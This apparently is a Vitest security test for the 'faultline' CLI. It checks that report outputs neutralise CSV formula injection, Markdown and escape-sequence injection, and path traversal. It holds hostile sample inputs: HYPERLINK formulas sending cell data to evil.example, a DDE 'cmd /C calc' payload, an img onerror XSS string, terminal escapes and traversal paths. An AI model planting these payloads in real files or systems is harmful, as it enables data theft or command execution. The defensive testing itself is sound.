// Issue 16, "Reports that cannot attack their reader": scenario and workload text reaches the CSVs,
// summary.md, junit.xml, the charts, comparison.* and the terminal. Formula-like CSV cells are
// neutralised as OWASP recommends, a title cannot split a Markdown heading or carry escape
// sequences, and `compare`'s default folder stays inside reports/compare/ whatever summary.json says.
import { mkdir, readdir, readFile, writeFile } from 'node:fs/promises';
import { join, relative, resolve } from 'node:path';
import { describe, expect, test } from 'vitest';
import { faultline } from '../helpers/cli.js';
import { tempDirs } from '../helpers/tmp.js';

const tmp = tempDirs('faultline-hostile-');

const ESC = '\u001b';
const TITLE = `Evil drill\r\n# Injected heading\n| forged | row |${ESC}[2J${ESC}]0;pwned\u0007 \u202etxt.exe <img src=x onerror=alert(1)>`;
const HOSTILE_TIERS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\t=1+1'];

/** RFC 4180 parse (fields may be quoted, "" is a quote, quoted fields may hold line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
    } else field += c;
  }
  if (field !== '' || row.length > 0) rows.push([...row, field]);
  return rows;
}

/** What a spreadsheet would run as a formula (OWASP's list), numbers aside. */
function formulaLike(cell: string): boolean {
  return /^[=+\-@\t\r]/.test(cell) && !/^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/.test(cell);
}

async function hostileScenario(dir: string): Promise<string> {
  const scenario = {
    faultline: 1,
    id: 'hostile',
    title: TITLE,
    description: `line one\n${ESC}[31mred`,
    start: '2025-04-06T22:00:00Z',
    duration: '1h',
    market: { instruments: { 'BTC-AUD': { mid: '101400.50' } } },
    providers: {
      feed: { role: 'price_feed', archetype: 'coingecko', name: `Feed ${ESC}[5m` },
      lp: { role: 'liquidity_provider', archetype: 'binance' },
      gw: { role: 'payment_gateway', archetype: 'stripe', fees: { percent: '1.7', fixed: '0.30', currency: 'AUD' } },
    },
    // Client tiers are free text from the scenario: they reach clients.csv and events.csv.
    workload: {
      trades: { rate_per_minute: 20, size: { median: '0.05' }, clients: { count: 40, tiers: Object.fromEntries(HOSTILE_TIERS.map((t) => [t, 1])) } },
      payments: { rate_per_minute: 10, amount: { median: '80.00' } },
    },
    faults: [
      { id: 'feed-dark', kind: 'outage', target: 'feed', at: '15m', for: '10m' },
      { id: 'gw-dark', kind: 'outage', target: 'gw', at: '15m', for: '10m' },
    ],
    playbook: { steps: [{ id: 'notify', title: '=1+1 notify <b>legal</b>', deadline: '5m', done_after: '20m' }] },
    thresholds: [
      { metric: 'pnl.total', op: '>=', value: '-50k AUD', name: '=HYPERLINK("http://evil.example","ok") | forged' },
      'incident.ttd <= 5m',
    ],
  };
  const file = join(dir, 'hostile.json');
  await writeFile(file, JSON.stringify(scenario, null, 2));
  return file;
}

async function filesUnder(dir: string): Promise<string[]> {
  const out: string[] = [];
  for (const e of await readdir(dir, { withFileTypes: true, recursive: true })) if (e.isFile()) out.push(join(e.parentPath, e.name));
  return out.sort();
}

describe('hostile scenario text in reports', () => {
  test('CSV cells are neutralised, Markdown/XML/SVG/terminal output carries no control characters', async () => {
    const dir = await tmp();
    const file = await hostileScenario(dir);
    const run = await faultline(['run', file, '--out', join(dir, 'reports'), '--ci', '--fail-on', 'none']);
    expect(run.stderr).not.toContain('internal error');
    expect(run.code).toBe(0);
    expect(run.stderr).not.toContain(ESC);
    const runDir = run.stdout.trim();

    // Every CSV: no formula-like cell; the hostile client ids arrived, neutralised with a leading '.
    const csvs = (await filesUnder(runDir)).filter((f) => f.endsWith('.csv'));
    expect(csvs.length).toBeGreaterThan(10);
    const cells = new Map<string, string[]>();
    for (const f of csvs) {
      const all = parseCsv(await readFile(f, 'utf8')).flat();
      cells.set(relative(runDir, f), all);
      expect(all.filter(formulaLike), relative(runDir, f)).toEqual([]);
    }
    const clients = cells.get('clients.csv')!;
    for (const t of HOSTILE_TIERS) expect(clients).toContain(`'${t}`);
    expect(cells.get('events.csv')!.length).toBeGreaterThan(0);
    expect(cells.get('compliance.csv')).toContain("'=1+1 notify <b>legal</b>; clock start = detection (t_detect)");

    // summary.md: the title is one heading line, no control character or bidi override anywhere.
    const md = await readFile(join(runDir, 'summary.md'), 'utf8');
    const first = md.split('\n')[0]!;
    expect(first.startsWith('# Drill report: Evil drill # Injected heading')).toBe(true);
    expect(first).toContain('&lt;img src=x');
    expect(md).not.toMatch(/^# Injected heading/m);
    expect(md).not.toMatch(/^\| forged \| row \|/m);
    // (summary.json keeps the text exactly, JSON-escaped: it is data for machines, and compare renders it safely.)
    for (const f of (await filesUnder(runDir)).filter((x) => /\.(md|xml|svg)$/.test(x))) {
      // eslint-disable-next-line no-control-regex
      expect(await readFile(f, 'utf8'), relative(runDir, f)).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f\u202e]/);
    }
    // The threshold's name is one table row (its | escaped inside the code span).
    expect(md).toContain('`=HYPERLINK("http://evil.example","ok") \\| forged`');

    // compare: comparison.csv neutralised too; comparison.md's heading is one line.
    const cmpOut = join(dir, 'cmp');
    const cmp = await faultline(['compare', runDir, runDir, '--out', cmpOut]);
    expect(cmp.code).toBe(0);
    const cmpCells = parseCsv(await readFile(join(cmpOut, 'comparison.csv'), 'utf8')).flat();
    expect(cmpCells.filter(formulaLike)).toEqual([]);
    expect(cmpCells).toContain('\'=HYPERLINK("http://evil.example","ok") | forged');
    const cmpMd = await readFile(join(cmpOut, 'comparison.md'), 'utf8');
    expect(cmpMd).not.toContain(ESC);
    expect(cmpMd).not.toMatch(/^# Injected heading/m);
  }, 120_000);

  test('compare: a scenarioId in summary.json cannot move the default folder out of reports/compare/', async () => {
    const cwd = await tmp();
    const run = await faultline(['run', resolve('test/fixtures/scenarios/minimal.yaml'), '--out', join(cwd, 'reports'), '--ci', '--fail-on', 'none']);
    expect(run.code).toBe(0);
    const runDir = run.stdout.trim();
    const summary = JSON.parse(await readFile(join(runDir, 'summary.json'), 'utf8')) as { scenarioId: string };
    for (const [i, forged] of ['../../../../escaped', '/tmp/abs', '..', `a/../../b${ESC}`].entries()) {
      const copy = join(cwd, `copy-${i}`);
      await mkdir(copy);
      await writeFile(join(copy, 'summary.json'), JSON.stringify({ ...summary, scenarioId: forged }));
      const cmp = await faultline(['compare', copy, runDir], {}, { cwd });
      expect(cmp.code, cmp.stderr).toBe(0);
      const target = resolve(cwd, cmp.stdout.trim());
      expect(target.startsWith(`${join(cwd, 'reports', 'compare')}/`)).toBe(true);
      expect(relative(join(cwd, 'reports', 'compare'), target)).not.toContain('/');
      expect(await readdir(target)).toEqual(['comparison.csv', 'comparison.md']);
    }
    expect(await readdir(cwd)).not.toContain('escaped');
  }, 120_000);
});
